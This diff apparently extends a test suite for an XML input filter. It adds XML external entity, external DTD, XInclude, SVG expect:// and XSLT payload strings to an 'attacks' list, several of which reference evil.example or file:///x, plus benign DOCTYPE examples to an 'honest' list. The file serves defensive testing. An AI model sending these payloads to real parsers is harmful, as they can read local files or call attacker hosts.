@@ -11,21 +11,31 @@ const attacks: readonly [what: string, ...texts: string[]][] = [
     '<!ENTITY % b PUBLIC "x" "http://evil.example/">',
     '<!DOCTYPE a [ <!ENTITY b "c"> ]>',
     '<!DOCTYPE a [<!ENTITY &#x25; b SYSTEM "x">]>',
+    "<!DOCTYPE a [<!ENTITY b SYSTEM'file:///x'>]>",
+    '<!DOCTYPE a [<!ENTITY% b SYSTEM "x">%b;]>',
+    '<!DOCTYPE a [<!ELEMENT a ANY>]>',
+    '+ADw-+ACE-DOCTYPE a+AFs-+ADw-+ACE-ENTITY',
   ],
   [
     'a document type from elsewhere',
     '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd">',
     '<!DOCTYPE a PUBLIC "x" "http://evil.example/a.dtd">',
+    '<!DOCTYPE a PUBLIC "-//A//B//EN" "http://evil.example/a">',
+    '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://evil.example/a.dtd">',
+    '<!DOCTYPE a PUBLIC "-//A//DTD B//EN" "file:///x">',
   ],
   [
     'an inclusion',
     '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///x"/></a>',
+    '<svg><image xlink:href="expect://id"/></svg>',
   ],
   [
     'a style sheet that reads or calls',
     '<xsl:value-of select="document(\'/x\')"/>',
     '<xsl:value-of select="php:function(\'run\')"/>',
     '<xsl:include href="http://evil.example/a.xsl"/>',
+    '<xsl:stylesheet xmlns:x="java:java.lang.Runtime">',
+    '<xsl:result-document href="file:///x">',
   ],
 ]
 
@@ -35,6 +45,7 @@ const honest: readonly [what: string, ...texts: string[]][] = [
     '<!DOCTYPE html><html lang="en"></html>',
     '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
     '<!DOCTYPE log4j:configuration SYSTEM "log4j.dtd">',
+    '<!DOCTYPE mapper PUBLIC "-//example.com//DTD Mapper 3.0//EN" "http://example.com/dtd/mapper.dtd">',
   ],
   [
     'plain XML',
